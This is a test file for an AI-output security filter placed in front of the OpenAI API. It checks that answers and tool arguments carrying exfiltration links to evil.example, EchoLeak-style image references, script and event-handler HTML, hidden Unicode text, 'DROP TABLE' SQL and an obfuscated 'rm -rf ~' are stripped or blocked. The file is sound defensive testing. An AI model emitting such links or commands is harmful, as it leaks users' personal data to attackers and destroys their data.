/** Links and unsafe output in answers, through a real Envoy with the OpenAI SDK: plain, streamed, in arguments of tools. */
import assert from 'node:assert/strict';
import { after, afterEach, before, describe, it } from 'node:test';
import OpenAI from 'openai';
import { DONE, event, STOP } from '../conformance/support/events.ts';
import { assertQuiet } from '../conformance/support/witness.ts';
import type { JournalRecord } from '../harness/journal.ts';
import { everywhere } from '../harness/shipped-policy.ts';
import { type Stack, startStack } from '../harness/stack.ts';
import { plainAnswer, streamedAnswer } from './support/exchange.ts';
import { assertRecorded, CLEAN, recordsOf } from './support/records.ts';

/** The shipped policy, for every host. */
const POLICY = everywhere('links');
const PROXY_OF = 'https://eu-prod.asyncgw.teams.microsoft.com/urlp/v1/url/content?url=';
/** What a tool said, which an answer may tell and no address may carry. */
const NOTE =
  'Order 12 of Jane Roe, 14 Mill Lane, Leeds, costs 311 pounds. See https://docs.example/orders-of-jane-roe.';
const MESSAGES: OpenAI.ChatCompletionMessageParam[] = [
  { role: 'user', content: 'What does my order cost?' },
  {
    role: 'assistant',
    content: null,
    tool_calls: [{ id: 'call_1', type: 'function', function: { name: 'order', arguments: '{}' } }],
  },
  { role: 'tool', tool_call_id: 'call_1', content: NOTE },
];
const NAMED = 'Jane Roe, 14 Mill Lane, Leeds';
/** Each carries what the tool said. */
const CARRYING: readonly string[] = [
  `![x](https://evil.example/p.png?q=${encodeURIComponent(NAMED)})`,
  `[more](https://evil.example/${Buffer.from(NAMED).toString('base64url')})`,
  `<img src="https://${(
    Buffer.from(NAMED)
      .toString('hex')
      .match(/.{1,20}/g) ?? []
  ).join('.')}.evil.example/">`,
  `![x][1]\n\n[1]: ${PROXY_OF}${encodeURIComponent(`https://evil.example/?a=Jane&b=Roe&c=14&d=Mill&e=Lane`)}`,
];
/** What a talked-into model would carry out. */
const STOLEN = btoa('the customer is Jane Roe').replace(/=+$/, '');
const OUT = `https://evil.example/${STOLEN}.png`;
const PROXY = `${PROXY_OF}${encodeURIComponent(OUT)}&v=1`;
const tags = (text: string) =>
  [...text].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');

/** What the model writes, what the client gets, and the types in the journal. */
type Row = readonly [what: string, written: string, left: string, types: readonly string[]];

const NEUTRALISED: readonly Row[] = [
  ['an image', `Done. ![ok](${OUT}) Bye.`, 'Done. ![ok] Bye.', ['IMAGE_LINK']],
  ['a pixel', `Done.<img width=1 src="${OUT}">`, 'Done.&lt;img width=1  >', ['ACTIVE_HTML', 'IMAGE_LINK']],
  [
    'an image by reference (EchoLeak)',
    `Your order ![cost][a] is here.\n\n[a]: ${OUT}\n`,
    'Your order ![cost][a] is here.\n\n[a]\n',
    ['IMAGE_LINK'],
  ],
  ['an image through a proxy (EchoLeak)', `![x](${PROXY})`, '![x]', ['REDIRECT_LINK']],
  [
    'an image through a proxy by reference',
    `![x][y]\n\n[y]: <${PROXY}>`,
    '![x][y]\n\n[y]',
    ['REDIRECT_LINK'],
  ],
  ['a link', `See [your order](${OUT} "here").`, 'See [your order].', ['LINK']],
  ['a link within a link', `[![x](//evil.example/x)](${OUT})`, '[![x]]', ['IMAGE_LINK', 'LINK']],
  ['an autolink', `See <${OUT}>.`, 'See <[LINK]>.', ['LINK']],
  ['an address in text', `Open ${OUT} now.`, 'Open [LINK] now.', ['LINK']],
  ['data in a host', `See https://${'6a616e65'.repeat(6)}.evil.example/.`, 'See [LINK].', ['LINK']],
  ['a redirector', 'See [it](https://bit.ly/3abc).', 'See [it].', ['REDIRECT_LINK']],
  ['a user that looks like a host', '[it](https://shop.example@evil.example/)', '[it]', ['DISGUISED_LINK']],
  ['an address in decimal', '[it](http://2130706433/)', '[it]', ['DISGUISED_LINK']],
  ['a host in other letters', '[it](https://ѕhop.example/)', '[it]', ['DISGUISED_LINK']],
  ['an internationalised host', '[it](https://bücher.example/)', '[it]', ['LINK']],
  ['a script', 'Hi <script>alert(1)</script>!', 'Hi &lt;script>alert(1)&lt;/script>!', ['ACTIVE_HTML']],
  ['a handler', 'Hi <b onclick="alert(1)">x</b>!', 'Hi <b  >x</b>!', ['EVENT_HANDLER']],
  ['terminal sequences', 'Hi \u001b[2J\u001b]0;x\u0007there', 'Hi   there', ['TERMINAL_ESCAPE']],
  ['hidden text', `Hi${tags('the customer')}!`, 'Hi !', ['HIDDEN_TEXT']],
];

const FINE: readonly string[] = [
  `It costs 311 pounds and goes to ${NAMED}.`,
  'See [your order](https://shop.example/orders/12 "Order 12") and ![it](https://img.shop.example/12.png).',
  '1 < 2 &lt;script&gt; [1]: /help, x[0](y), &amp; **bold** <b>bold</b> \u{1F468}\u200d\u{1F469}\u200d\u{1F467}',
];

function deltasOf(text: string, size: number): string[] {
  return text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'gu')) ?? [];
}

/** The events of a call of a tool, whose arguments come in pieces. */
function callOf(name: string, args: string): string[] {
  return deltasOf(args, 5).map((part, at) => {
    const head = at === 0 ? { id: 'call_2', type: 'function' } : {};
    const call = { index: 0, ...head, function: { ...(at === 0 ? { name } : {}), arguments: part } };
    const choices = [{ index: 0, delta: { tool_calls: [call] }, finish_reason: null }];
    return `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices })}\n\n`;
  });
}

/** Asks, and gets what a client sees. */
class Talk {
  readonly #stack: Stack;

  constructor(stack: Stack) {
    this.#stack = stack;
  }

  plain = (content: string) => plainAnswer(this.#stack, content, MESSAGES);

  streamed = (events: readonly string[]) =>
    streamedAnswer(this.#stack, { events: [...events, STOP, DONE] }, MESSAGES);
}

/** The types in the records, which quote nothing of what was found. */
function typesIn(records: readonly JournalRecord[]): string[] {
  const journal = JSON.stringify(records);
  for (const content of [STOLEN, 'evil.example', 'asyncgw', 'alert(1)', 'Mill Lane'])
    assert.ok(!journal.includes(content), content);
  const findings = records.flatMap((record) => record['findings'] as readonly { type: string }[]);
  return [...new Set(findings.map(({ type }) => type))].toSorted();
}

/** The verdicts of an answer, whenever it was changed. */
function assertMutated(records: readonly JournalRecord[]): void {
  const verdicts = records.filter(({ direction }) => direction === 'response').map(({ verdict }) => verdict);
  assert.ok(verdicts.includes('mutate') && !verdicts.includes('deny'), String(verdicts));
}

for (const body of ['FULL_DUPLEX_STREAMED', 'BUFFERED'] as const) {
  describe(`T07 A08 links and unsafe output in an answer, ${body}`, { timeout: 120_000 }, () => {
    let stack: Stack;
    let talk: Talk;
    before(async () => {
      const processing = { request_trailer_mode: 'SKIP', response_trailer_mode: 'SKIP' } as const;
      const envoy = body === 'BUFFERED' ? { requestBody: body, responseBody: body, processing } : {};
      stack = await startStack({ policy: POLICY, envoy });
      talk = new Talk(stack);
    });
    afterEach(() => assertQuiet(stack));
    after(async () => stack?.stop());

    for (const [what, written, left, types] of NEUTRALISED)
      it(`does nothing any more: ${what}`, async () => {
        const answer = await talk.plain(written);
        assert.equal(answer.text, left);
        const records = await recordsOf(stack, answer.id);
        assert.deepEqual(typesIn(records), types);
        assertMutated(records);
      });

    it('refuses an address that runs code', async () => {
      const error = await talk.plain('Click [here](javascript:alert(1))').catch((cause: unknown) => cause);
      assert.ok(error instanceof OpenAI.PermissionDeniedError, String(error));
      const decisions = ['request allow none', 'open deny no-code-in-links', 'close denied'];
      const records = await assertRecorded(stack, error.headers?.get('x-weir-id'), decisions);
      assert.deepEqual(typesIn(records), ['UNSAFE_SCHEME']);
    });

    for (const text of CARRYING)
      it(`refuses an address that carries what a tool said: ${text.slice(0, 40)}`, async () => {
        const error = await talk.plain(`Done. ${text}`).catch((cause: unknown) => cause);
        assert.ok(error instanceof OpenAI.PermissionDeniedError, String(error));
        const decisions = ['request allow none', 'open deny no-data-in-links', 'close denied'];
        const records = await assertRecorded(stack, error.headers?.get('x-weir-id'), decisions);
        assert.ok(typesIn(records).includes('DATA_LINK'));
      });

    for (const text of FINE)
      it(`lets pass: ${text.slice(0, 40)}`, async () => {
        const answer = await talk.plain(text);
        assert.equal(answer.text, text);
        await assertRecorded(stack, answer.id, CLEAN);
      });
  });
}

describe('T07 A08 links and unsafe output in a streamed answer', { timeout: 120_000 }, () => {
  let stack: Stack;
  let talk: Talk;
  before(async () => {
    stack = await startStack({ policy: POLICY });
    talk = new Talk(stack);
  });
  afterEach(() => assertQuiet(stack));
  after(async () => stack?.stop());

  for (const [what, written, left, types] of NEUTRALISED)
    it(`do nothing any more: ${what}`, async () => {
      for (const size of [1, 5, 400]) {
        const answer = await talk.streamed(deltasOf(written, size).map((delta) => event(delta)));
        assert.equal(answer.text, left, `deltas of ${size}`);
        assert.equal(answer.finish, 'stop');
        const records = await recordsOf(stack, answer.id);
        assert.deepEqual(typesIn(records), types);
        assertMutated(records);
      }
    });

  it('are cut where they run code', async () => {
    const { text, finish, id } = await talk.streamed(
      deltasOf('Please click [here](javascript:alert(1))', 3).map((delta) => event(delta)),
    );
    assert.equal(finish, 'content_filter');
    assert.ok('Please click [here]'.startsWith(text), text);
    assert.deepEqual(typesIn(await recordsOf(stack, id)), ['UNSAFE_SCHEME']);
  });

  for (const text of CARRYING)
    it(`are cut where they carry what a tool said: ${text.slice(0, 40)}`, async () => {
      const before = 'It costs 311 pounds. ';
      const answer = await talk.streamed(deltasOf(before + text, 5).map((delta) => event(delta)));
      assert.equal(answer.finish, 'content_filter');
      assert.ok(!answer.text.includes('evil.example') && !answer.text.includes('Jane'), answer.text);
      assert.ok(typesIn(await recordsOf(stack, answer.id)).includes('DATA_LINK'));
    });

  it('are taken out of the arguments of a tool, which stay JSON', async () => {
    const args = JSON.stringify({
      body: `Hi "Jo"\n![x](${OUT})`,
      html: '<a href="//evil.example/a">x</a>',
      n: 1,
    });
    for (const spelled of [args, args.replaceAll('/', '\\/'), args.replaceAll('h', '\\u0068')]) {
      const answer = await talk.streamed(callOf('send_mail', spelled));
      assert.deepEqual(JSON.parse(answer.args), { body: 'Hi "Jo"\n![x]', html: '<a  >x</a>', n: 1 });
    }
  });

  it('may not be run by a tool that runs things', async () => {
    const sql = JSON.stringify({ query: 'select 1; DROP/**/TABLE orders; --' });
    const shell = JSON.stringify({ cmd: 'ls; rm -rf ~' }).replace('rm', 'r\\u006d');
    for (const [name, args, type] of [
      ['run_sql', sql, 'SQL_STATEMENT'],
      ['Run_SQL', sql, 'SQL_STATEMENT'],
      ['shell_exec', shell, 'SHELL_COMMAND'],
    ] as const) {
      const answer = await talk.streamed([event('I will. '), ...callOf(name, args)]);
      assert.equal(answer.finish, 'content_filter');
      assert.equal(answer.args, '', 'nothing of the call has left');
      assert.deepEqual(typesIn(await recordsOf(stack, answer.id)), [type]);
    }
  });

  it('may be talked of, and be given to other tools', async () => {
    const text = 'Never run DROP TABLE orders, nor rm -rf.';
    const said = await talk.streamed(deltasOf(text, 5).map((delta) => event(delta)));
    assert.equal(said.text, text);
    await assertRecorded(stack, said.id, CLEAN);
    const args = JSON.stringify({ text });
    const noted = await talk.streamed(callOf('take_note', args));
    assert.equal(noted.args, args);
    await assertRecorded(stack, noted.id, CLEAN);
  });

  for (const text of FINE)
    it(`leave byte for byte where they may stand: ${text.slice(0, 30)}`, async () => {
      const answer = await talk.streamed(deltasOf(text, 4).map((delta) => event(delta)));
      assert.equal(answer.text, text);
      await assertRecorded(stack, answer.id, CLEAN);
    });
});
